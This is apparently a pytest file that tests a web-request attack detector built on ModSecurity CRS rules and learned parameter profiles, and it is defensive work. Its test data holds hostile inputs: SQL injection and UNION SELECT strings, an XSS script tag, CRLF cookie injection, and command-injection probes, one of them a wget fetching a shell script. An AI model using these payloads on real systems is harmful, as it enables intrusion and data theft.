"""The payload stage end to end: CRS behind the prefilter, own signatures and learned
parameter profiles, judged in context, reported per request (detect) or per source."""

from __future__ import annotations

import logging
import math
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from detectors.crs import RULES_DIR, SETUP_FILE
from detectors.engine import DetectionEngine
from detectors.payload.detector import PayloadDetector, PayloadParams, RouteRules
from gatewatch.event import Event
from gatewatch.finding import Finding
from tests.detectors.events import events_at

pytestmark = pytest.mark.skipif(
    not (RULES_DIR.is_dir() and SETUP_FILE.is_file()),
    reason="needs Debian's modsecurity-crs (make test installs it as root)",
)
ADJECTIVES = ["red", "running", "wool", "kids", "large", "cheap", "organic", "travel", "usb c"]
NOUNS = ["shoes", "socks", "lamp", "cable", "jacket", "mat", "grinder", "bottle", "bike stand"]
SEARCHES = [f"{a} {n}" for a in ADJECTIVES for n in NOUNS]  # 81 distinct: free text
TRAPS = ["men's shoes", "select comfort pillow", "exec chair", "wget tote bag", "echo dot",
         "drop earrings", "union jack flag", "100% cotton t-shirt"]  # fmt: skip

ev = events_at(route="/api/v1/search", path="/api/v1/search")


def run(events: list[Event], *, offline: bool = True, **params: Any) -> list[Finding]:
    found: list[Finding] = []
    detector = PayloadDetector(PayloadParams(**params))
    engine = DetectionEngine(
        [detector], found.append, allowed_lateness_s=0, evidence_limit=None if offline else 100
    )
    for event in events:
        engine.process(event)
    engine.finish()
    return found


def warm_up(start: float = 0.0, count: int = 120) -> list[Event]:
    """Ordinary traffic: free-text searches and integer product ids."""
    events = []
    for i in range(count):
        ip = f"198.51.100.{i % 50}"
        events.append(
            ev(
                start + i,
                client_ip=ip,
                query=f"q={SEARCHES[i * 7 % len(SEARCHES)].replace(' ', '+')}",
            )
        )
        events.append(
            ev(
                start + i + 0.5,
                client_ip=ip,
                path=f"/api/v1/products/{1000 + i * 7}",
                route="/api/v1/products/{id}",
                query=f"id={1000 + i * 7}&page={i % 5 + 1}",
            )
        )
    return events


def latest(findings: list[Finding]) -> list[Finding]:
    """The last version of each finding."""
    return list({f.id: f for f in findings}.values())


def test_sql_injection_in_an_id_parameter_is_one_finding_per_request() -> None:
    attack = ev(500, client_ip="203.0.113.9", route="/api/v1/products/{id}",
                path="/api/v1/products/1007", query="id=1007%27%20OR%20%271%27%3D%271")  # fmt: skip
    (finding,) = latest(run([*warm_up(), attack]))
    assert (finding.kind, finding.subkind) == ("injection", "sqli")
    assert finding.entity == "203.0.113.9"
    assert finding.evidence == (attack.request_id,)
    assert finding.score >= 0.8  # a signature in a parameter learnt to hold integers
    assert {942100} & set(finding.extra["rules"])
    assert finding.extra["where"] == "ARGS:id"
    assert finding.extra["fragment"] == "1007' OR '1'='1"
    assert "ids or fixed values" in " ".join(finding.extra["context"])
    assert "1007' OR '1'='1" in finding.summary and "942100" in finding.summary


@pytest.mark.parametrize("trap", TRAPS)
def test_benign_search_traps_raise_nothing(trap: str) -> None:
    search = ev(500, client_ip="198.51.100.77", query="q=" + trap.replace(" ", "+").replace(
        "%", "%25").replace("'", "%27"))  # fmt: skip
    assert run([*warm_up(), search]) == []


def test_the_same_words_from_a_scanning_source_are_flagged() -> None:
    ip = "203.0.113.50"
    probes = [
        ev(500, client_ip=ip, query="q=wget+tote+bag"),  # words only: held back
        ev(501, client_ip=ip, query="q=%3Cscript%3Ealert(1)%3C/script%3E"),
        ev(502, client_ip=ip, query="q=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
        ev(503, client_ip=ip, query="q=wget+http://203.0.113.50/x.sh"),
    ]
    findings = latest(run([*warm_up(), *probes]))
    flagged = {rid for f in findings for rid in f.evidence}
    assert flagged == {p.request_id for p in probes}  # the held-back probe joins
    assert {f.subkind for f in findings} >= {"xss", "sqli", "cmdi"}


def test_a_source_is_one_finding_per_subkind_when_streaming() -> None:
    ip = "203.0.113.60"
    attacks = [ev(500 + i, client_ip=ip, query=f"q=1%27%20OR%20{i}%3D{i}--") for i in range(6)]
    findings = latest(run([*warm_up(), *attacks], offline=False))
    (finding,) = [f for f in findings if f.subkind == "sqli"]
    assert set(finding.evidence) == {a.request_id for a in attacks}
    assert finding.entity == ip and finding.first_ts == attacks[0].ts


def test_a_value_far_outside_its_profile_is_an_anomaly() -> None:
    tampered = ev(500, client_ip="203.0.113.70", route="/api/v1/products/{id}",
                  path="/api/v1/products/1007", query="id=" + "9" * 300)  # fmt: skip
    (finding,) = latest(run([*warm_up(), tampered]))
    assert (finding.kind, finding.subkind) == ("anomaly", "parameter_profile")
    assert finding.evidence == (tampered.request_id,)
    assert finding.extra["where"] == "ARGS:id"


def test_protocol_rules_are_malformed_requests() -> None:
    null_byte = ev(500, client_ip="203.0.113.80", query="file=report%00.pdf")
    findings = latest(run([*warm_up(), null_byte]))
    assert [(f.kind, f.evidence) for f in findings] == [
        ("malformed_request", (null_byte.request_id,))
    ]
    assert 920270 in findings[0].extra["rules"]


def test_crlf_in_a_parameter_is_injection_crlf() -> None:
    crlf = ev(500, client_ip="203.0.113.81",
              query="next=%2Fhome%0d%0aSet-Cookie%3A%20session%3Dattacker")  # fmt: skip
    (finding,) = latest(run([*warm_up(), crlf]))
    assert (finding.kind, finding.subkind) == ("injection", "crlf")


def test_routes_can_exclude_rules_and_parameters() -> None:
    attack = ev(500, client_ip="203.0.113.90", query="q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert latest(run([*warm_up(), attack]))
    routes = {"/api/v1/search": RouteRules(exclude_params=frozenset({"q"}))}
    assert run([*warm_up(), attack], routes=routes, profiles=False) == []
    everything = sorted({941100, 941110, 941160, 941180, 941390, 941120, 941320})
    routes = {"/api/v1/search": RouteRules(exclude_rules=frozenset(everything))}
    assert run([*warm_up(), attack], routes=routes, signatures=False, profiles=False) == []


def test_a_route_can_run_at_a_higher_paranoia_level() -> None:
    # 942480 (PL2): a MySQL system variable; PL1 lets it pass.
    odd = ev(500, client_ip="203.0.113.91", query="q=%40%40version")
    assert run([odd], profiles=False, signatures=False) == []
    routes = {"/api/v1/search": RouteRules(paranoia_level=2)}
    (finding,) = latest(run([odd], profiles=False, signatures=False, routes=routes))
    assert finding.extra["rules"] == [942480]


def test_without_the_rule_set_the_stage_runs_on_and_says_why(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.ERROR):
        detector = PayloadDetector(PayloadParams(rules_dir=tmp_path))
    assert detector.inspector is None
    assert "modsecurity-crs" in caplog.text and "payload.crs = false" in caplog.text
    detector.bind(lambda f: None, evidence_limit=None)
    detector.observe(ev(1, query="q=1%27%20OR%20%271%27%3D%271"))
    detector.advance(math.inf)


def test_bad_params_name_the_problem() -> None:
    with pytest.raises(ValidationError, match="allowed_methods"):
        PayloadParams(allowed_methods=frozenset({"GET", "PO ST"}))
    with pytest.raises(ValidationError, match="paranoia_level"):
        PayloadParams.model_validate({"routes": {"/x": {"paranoia_level": 5}}})
    with pytest.raises(ValidationError, match="group"):
        PayloadParams(group="never")  # type: ignore[arg-type]


def test_where_nothing_is_learnt_yet_only_a_plain_phrase_is_weighed_down() -> None:
    fresh = events_at(route="/api/v1/new", path="/api/v1/new")
    search = fresh(0, client_ip="198.51.100.5", query="q=echo+dot")  # one word matched
    command = fresh(1, client_ip="198.51.100.6", query="q=time+sh+-c+whoami")
    batch = fresh(2, client_ip="198.51.100.7", query="q=IF+EXIST+x.txt+ECHO+found")
    findings = latest(run([search, command, batch]))
    assert {f.evidence for f in findings} == {(command.request_id,), (batch.request_id,)}


def test_a_new_parameter_on_a_warm_route_is_a_low_severity_anomaly() -> None:
    odd = ev(500, client_ip="203.0.113.92", route="/api/v1/products/{id}",
             path="/api/v1/products/1007", query="id=1007&debug=1")  # fmt: skip
    (finding,) = latest(run([*warm_up(), odd]))
    assert (finding.kind, finding.subkind) == ("anomaly", "parameter_profile")
    assert finding.severity == "low" and finding.score < 0.5
    assert finding.extra["where"] == "ARGS:debug"
    assert run([*warm_up(), odd], anomaly_min_score=0.5) == []


@pytest.mark.parametrize(
    "path", ["/tienda1/publico/carrito.jsp.java", "/login.jsp/123.jsp", "/index.php~"]
)
def test_a_probe_for_files_left_behind_is_endpoint_scanning(path: str) -> None:
    probe = ev(500, client_ip="203.0.113.93", path=path, route=path, query="")
    (finding,) = latest(run([*warm_up(), probe]))
    assert 990600 in finding.extra["rules"]
    assert finding.evidence == (probe.request_id,)
    if not path.endswith("~"):  # CRS's backup-file rule (920500) names the other
        assert (finding.kind, finding.subkind) == ("endpoint_scanning", "probe_path")


@pytest.mark.parametrize("path", ["/static/app.min.js", "/downloads/gatewatch-1.0.tar.gz"])
def test_files_sites_do_serve_are_not_probes(path: str) -> None:
    assert run([ev(0, path=path, route=path, query="")], profiles=False) == []


def busy_host() -> list[Event]:
    """A host whose paths are well learnt: 1,200 requests, all under /api."""
    return warm_up(count=600)


def test_a_top_level_path_a_busy_host_never_serves_is_a_low_severity_anomaly() -> None:
    probe = ev(700, client_ip="203.0.113.94", path="/admin4.nsf", route="/admin4.nsf", query="")
    (finding,) = latest(run([*busy_host(), probe]))
    assert (finding.kind, finding.subkind) == ("anomaly", "unseen_route")
    assert finding.severity == "low" and finding.score < 0.5
    assert finding.extra["where"] == "REQUEST_FILENAME"
    assert finding.extra["fragment"] == "admin4.nsf"
    assert run([*busy_host(), probe], route_novelty=False) == []
    assert run([*warm_up(), probe]) == []  # 240 requests: the host is not learnt yet


@pytest.mark.parametrize(
    "path", ["/api/v1/products/1007/reviews", "/api/v2/search", "/robots.txt", "/favicon.ico"]
)
def test_a_new_route_under_a_known_top_level_path_or_a_crawler_file_is_quiet(path: str) -> None:
    new = ev(700, client_ip="198.51.100.9", path=path, route=path, query="")
    assert run([*busy_host(), new]) == []


def test_a_new_top_level_resource_is_reported_a_few_times_then_learnt() -> None:
    deploy = [
        ev(700 + i, client_ip=f"198.51.100.{i}", path=f"/v2/orders/{i}", route="/v2/orders/{id}")
        for i in range(30)
    ]
    findings = latest(run([*busy_host(), *deploy]))
    assert [f.evidence for f in findings] == [(d.request_id,) for d in deploy[:8]]
    assert {f.subkind for f in findings} == {"unseen_route"}
